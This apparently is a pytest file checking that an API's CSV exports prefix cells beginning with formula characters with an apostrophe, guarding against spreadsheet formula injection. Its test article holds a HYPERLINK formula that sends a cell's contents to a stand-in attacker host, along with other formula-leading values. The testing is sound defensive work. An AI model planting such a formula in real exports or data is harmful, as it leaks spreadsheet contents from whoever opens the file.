"""CSV exports never hand a spreadsheet a formula (issue 14, D12).

A cell that begins with `=`, `+`, `-` or `@` (or a tab, carriage return, line feed or
NUL) is read as a formula by Excel, LibreOffice and Google Sheets. Every such text cell of
a CSV export starts with an apostrophe, as OWASP recommends; JSON and NDJSON carry the
text unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.exports.streaming import FORMULA_STARTS, csv_cell

ARTICLE = """=HYPERLINK("http://evil.example/?x="&A1,"Click")

Markets opened lower on the news.

Jane Doe, an economist at @Example Bank, says:

– =1+2 is what the model gives for the rate.

John Smith, a strategist at Example Capital, says:

– +44 percent is the growth the bank expects, not 2=3.

Omar Haddad, a senior fellow at the Caspian Institute, says:

– @SUM(1+1) is how traders joke about it.
"""
SOURCE = "-2+3 Wire"


@pytest.fixture
def hostile(write_client: TestClient, auth: dict[str, str]) -> TestClient:
    body = {"text": ARTICLE, "published_on": "2024-05-14", "source": SOURCE}
    response = write_client.post("/v1/articles", json=body, headers=auth)
    assert response.status_code == 201, response.text
    return write_client


def _csv(client: TestClient, path: str, **params: Any) -> list[dict[str, str]]:
    response = client.get(path, params={**params, "format": "csv"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def _ndjson(client: TestClient, path: str, **params: Any) -> list[dict[str, Any]]:
    response = client.get(path, params={**params, "format": "ndjson"})
    assert response.status_code == 200, response.text
    return [json.loads(line) for line in response.text.splitlines()]


def test_statement_text_and_article_title_cells_are_neutralised(hostile: TestClient) -> None:
    rows = _csv(hostile, "/v1/statements", sort="said_on", **{"from": "2024-05-14"})
    items = _ndjson(hostile, "/v1/statements", sort="said_on", **{"from": "2024-05-14"})
    assert [item["text"][0] for item in items] == ["=", "+", "@"]  # JSON keeps the text
    for row, item in zip(rows, items, strict=True):
        assert row["text"] == "'" + item["text"]
        assert row["article_title"] == "'" + item["article"]["title"]
        assert row["article_title"].startswith("'=HYPERLINK(")
    by_expert = {row["expert_name"]: row for row in rows}
    assert by_expert["Jane Doe"]["expert_organization"] == "'@Example Bank"
    # a cell that merely contains a formula character is left alone
    assert by_expert["John Smith"]["expert_organization"] == "Example Capital"


def test_article_and_expert_cells_are_neutralised(hostile: TestClient) -> None:
    (article,) = _csv(hostile, "/v1/articles", source="wire")
    assert article["title"].startswith("'=HYPERLINK(")
    assert article["source"] == "'" + SOURCE
    assert _ndjson(hostile, "/v1/articles", source="wire")[0]["source"] == SOURCE
    experts = {row["name"]: row for row in _csv(hostile, "/v1/experts", q="jane")}
    assert experts["Jane Doe"]["organization"] == "'@Example Bank"


def test_no_csv_cell_of_any_export_starts_a_formula(hostile: TestClient) -> None:
    for path in ("/v1/statements", "/v1/experts", "/v1/articles"):
        for row in _csv(hostile, path):
            for name, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (path, name, cell)


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_every_formula_start_gets_an_apostrophe(first: str) -> None:
    assert csv_cell(first + "1+1") == "'" + first + "1+1"


@pytest.mark.parametrize("value", ["1+1", "a=b", " =x", "'=x", "", 7, 2.5])
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def test_none_is_an_empty_cell() -> None:
    assert csv_cell(None) == ""
